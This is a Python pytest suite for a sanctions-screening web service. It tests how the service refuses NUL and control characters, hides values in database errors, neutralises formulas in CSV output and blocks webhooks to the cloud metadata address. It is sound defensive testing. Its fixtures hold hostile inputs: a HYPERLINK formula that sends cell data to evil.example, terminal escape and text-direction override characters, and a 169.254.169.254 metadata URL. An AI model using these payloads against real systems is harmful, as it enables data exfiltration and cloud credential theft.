"""Hostile text at the service's boundary, over HTTP, on SQLite and on PostgreSQL alike.

NUL bytes and other control characters in URLs, NUL in JSON bodies: refused with a 4xx that names the
field, before any database access (PostgreSQL cannot store NUL and used to answer 500); the keep-alive
connection carries on. Also: database errors never show a statement's values (a key's hash), job
results in CSV never hand a spreadsheet a formula, and webhooks cannot be pointed at the cloud's
metadata address.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import insert
from sqlalchemy.exc import DBAPIError

from sanctionwatch.access.keys import key_digest
from sanctionwatch.access.roles import Role
from sanctionwatch.access.tables import api_keys
from sanctionwatch.db.engine import connect
from sanctionwatch.sources.csvsafe import FORMULA_STARTS, original_text
from tests.postgres import drop_pg_database, make_pg_database
from tests.service.conftest import Service, seeded_service


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def served(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """The shared SQLite service, or one of our own over a fresh PostgreSQL database."""
    if request.param == "sqlite":
        yield request.getfixturevalue("service")
        return
    admin = request.getfixturevalue("pg_server")
    name, url = make_pg_database(admin)
    try:
        with seeded_service(url, tmp_path_factory.mktemp("pg-service")) as running:
            yield running
    finally:
        drop_pg_database(admin, name)


def refused(response: httpx.Response, status: int, field: str) -> str:
    assert response.status_code == status, response.text
    detail = str(response.json()["detail"])
    assert detail.startswith(f"{field}: "), detail
    return detail


def key_count(client: httpx.Client) -> int:
    return len(client.get("/admin/keys").json()["keys"])


def test_nul_in_a_new_keys_name_or_owner_is_refused_and_the_connection_goes_on(served: Service) -> None:
    with served.client(Role.ADMIN) as admin:
        before = key_count(admin)
        refused(admin.post("/admin/keys", json={"name": "tool\x00x", "role": "viewer"}), 422, "body.name")
        owner = admin.post("/admin/keys", json={"name": "tool", "role": "viewer", "owner": "al\x00ice"})
        assert "U+0000" in refused(owner, 422, "body.owner")
        assert admin.get("/lists").status_code == 200  # same keep-alive connection, still served
        assert key_count(admin) == before


def test_control_characters_in_a_keys_name_are_refused_naming_it(served: Service) -> None:
    with served.client(Role.ADMIN) as admin:
        before = key_count(admin)
        escape = admin.post("/admin/keys", json={"name": "\x1b[2Jroot", "role": "viewer"})
        assert "U+001B" in refused(escape, 400, "name")
        override = admin.post("/admin/keys", json={"name": "tool\u202egnp", "role": "viewer"})
        assert "U+202E" in refused(override, 400, "name")
        assert key_count(admin) == before


def test_a_backslash_u0000_spelt_out_is_text_and_accepted(served: Service) -> None:
    with served.client(Role.ADMIN) as admin:
        created = admin.post("/admin/keys", json={"name": "literal \\u0000", "role": "viewer"})
    assert created.status_code == 201, created.text
    assert created.json()["name"] == "literal \\u0000"


@pytest.mark.parametrize("path", ["/jobs/abc%00def", "/jobs/abc%00def/result", "/jobs/%0A", "/jobs/x%1B[2J"])
def test_control_characters_in_a_path_are_refused_naming_the_parameter(served: Service, path: str) -> None:
    with served.client(Role.ANALYST) as client:
        refused(client.get(path), 400, "path.job_id")
        assert client.get("/jobs/no-such-job").status_code == 404  # the connection goes on


def test_control_characters_in_the_query_string_are_refused_naming_the_parameter(served: Service) -> None:
    with served.client(Role.VIEWER) as client:
        refused(client.get("/search/default", params={"q": "kim\x00"}), 400, "query.q")
        refused(client.get("/search/default", params={"q": "kim", "limit": "\x07"}), 400, "query.limit")
        assert client.get("/search/default", params={"q": "kim"}).status_code == 200


def test_nul_deep_in_a_json_body_is_refused_with_its_place(served: Service) -> None:
    body: dict[str, Any] = {
        "queries": {"q1": {"schema": "Person", "properties": {"name": ["Kim", "Jong\x00Un"]}}}
    }
    with served.client(Role.ANALYST) as client:
        refused(client.post("/match/default", json=body), 422, "body.queries.q1.properties.name.1")
        refused(client.post("/screen", json={"name\x00": "Kim"}), 422, "body (a field name)")


def test_database_errors_never_show_the_statements_values(tmp_path: Path, pg_server: str) -> None:
    """A traceback prints the error: it must not carry a key's hash (nor any other value written)."""
    digest = key_digest("sw_the-key-that-must-stay-secret")
    row = {
        "name": "k",
        "role": "viewer",
        "prefix": "sw_the-key",
        "key_hash": digest,
        "created_at": datetime.now(UTC),
    }
    sqlite = connect(f"sqlite:///{tmp_path / 'r.db'}")
    try:
        with sqlite.begin() as conn:
            conn.execute(insert(api_keys).values(**row))
        with pytest.raises(DBAPIError) as duplicate, sqlite.begin() as conn:
            conn.execute(insert(api_keys).values(**row))
    finally:
        sqlite.dispose()
    assert digest not in str(duplicate.value) and "parameters hidden" in str(duplicate.value)
    name, url = make_pg_database(pg_server)
    postgres = connect(url)
    try:
        with pytest.raises(DBAPIError) as nul, postgres.begin() as conn:  # PostgreSQL refuses NUL itself
            conn.execute(insert(api_keys).values(**row | {"name": "k\x00"}))
    finally:
        postgres.dispose()
        drop_pg_database(pg_server, name)
    assert digest not in str(nul.value) and "parameters hidden" in str(nul.value)


def test_job_results_in_csv_never_hold_a_formula(served: Service) -> None:
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(A1:A9)", "+1", "-1"]
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["id", "name"])
    writer.writerows([query_id, "Kim Jong Un"] for query_id in hostile)
    with served.client(Role.ANALYST) as client:
        job_id = client.post(
            "/jobs", files={"file": ("=evil.csv", upload.getvalue().encode())}, data={"output_format": "csv"}
        ).json()["id"]
        deadline = time.monotonic() + 60
        while (job := client.get(f"/jobs/{job_id}").json())["status"] not in ("done", "failed"):
            assert time.monotonic() < deadline, job
            time.sleep(0.1)
        result = client.get(job["result_url"]).text
    rows = list(csv.DictReader(io.StringIO(result, newline="")))
    assert [original_text(r["id"]) for r in rows] == hostile
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())
    assert all(0 < float(r["score"]) <= 1 for r in rows)


def test_a_webhook_to_the_metadata_address_is_refused(served: Service) -> None:
    with served.client(Role.ADMIN) as admin:
        answer = admin.post("/webhooks", json={"url": "http://169.254.169.254/latest/meta-data/"})
        assert answer.status_code == 400, answer.text
        assert "not a public address (link-local)" in answer.json()["detail"]
        assert all("169.254" not in hook["url"] for hook in admin.get("/webhooks").json())
